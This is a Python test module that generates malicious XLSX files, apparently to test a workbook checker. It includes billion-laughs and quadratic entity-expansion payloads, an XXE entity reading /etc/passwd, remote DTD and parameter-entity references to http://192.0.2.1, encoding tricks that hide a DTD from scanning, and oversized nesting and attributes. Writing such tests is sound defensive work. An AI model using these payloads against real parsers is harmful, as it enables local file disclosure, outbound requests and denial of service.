"""Cases 14 to 17: XML that expands, reaches out, or hides from the scan for it."""

from __future__ import annotations

from collections.abc import Iterator

from tests.bad.model import Case
from tests.bad.workbooks import SHEET, STYLES, WORKBOOK, good, rezip

LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11)) + "]>"
)
QUADRATIC = f'<!DOCTYPE l [<!ENTITY a "{"a" * 5000}">]>'
OUTSIDE = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE l SYSTEM "http://192.0.2.1/evil.dtd">'
PARAMETER = '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>'


def cases() -> Iterator[Case]:
    """All of them, in their order."""
    yield _dtd("14", "十亿笑（实体套实体）", "billion laughs", SHEET, LAUGHS, "&a10;")
    yield _dtd(
        "15", "二次方实体（5 KB 变 5 MB）", "quadratic entity (5 KB become 5 MB)", SHEET, QUADRATIC, "&a;" * 1000
    )
    yield _dtd("16", "外部实体（读本机文件）", "external entity (a local file)", SHEET, OUTSIDE, "&x;")
    yield _dtd("16", "外部 DTD（网络地址）", "external DTD (an address)", SHEET, REMOTE)
    yield _dtd("16", "参数实体（网络地址）", "parameter entity (an address)", "docProps/core.xml", PARAMETER)
    yield _dtd("17", "workbook.xml 里的 DTD", "a DTD in workbook.xml", WORKBOOK, QUADRATIC)
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-7", "cp037"):
        yield Case(
            "17", f"DTD 藏在 {encoding} 编码里", f"a DTD in {encoding}", lambda encoding=encoding: _encoded(encoding)
        )
    yield _dtd("17", "styles.xml 里的 DTD", "a DTD in styles.xml", STYLES, LAUGHS)
    yield Case(
        "17",
        "嵌套 50 万层的 XML",
        "XML 500,000 elements deep",
        lambda: rezip(good(), {WORKBOOK: lambda _: b"<a>" * 500_000 + b"</a>" * 500_000}),
    )
    yield Case(
        "17",
        "一个标记里 20 MB 属性",
        "20 MB of attributes in one tag",
        lambda: rezip(good(), {SHEET: lambda t: t.replace(b"<sheetData", b"<x " + _attributes() + b"/><sheetData")}),
    )


def _attributes() -> bytes:
    return b'a="' + b"mergeCell " * 2_000_000 + b'"'


def _dtd(number: str, zh: str, en: str, part: str, dtd: str, use: str = "") -> Case:
    def change(text: bytes) -> bytes:
        head, _, rest = text.partition(b"?>")
        if use:
            rest = rest.replace(b"<v>", b"<v>" + use.encode(), 1)
        return head + b"?>" + dtd.encode() + rest

    return Case(number, zh, en, lambda: rezip(good(), {part: change}))


def _encoded(encoding: str) -> bytes:
    def change(text: bytes) -> bytes:
        whole = text.decode().replace("?>", "?>" + QUADRATIC, 1).replace("UTF-8", encoding, 1)
        return whole.encode(encoding, "xmlcharrefreplace")

    return rezip(good(), {WORKBOOK: change})
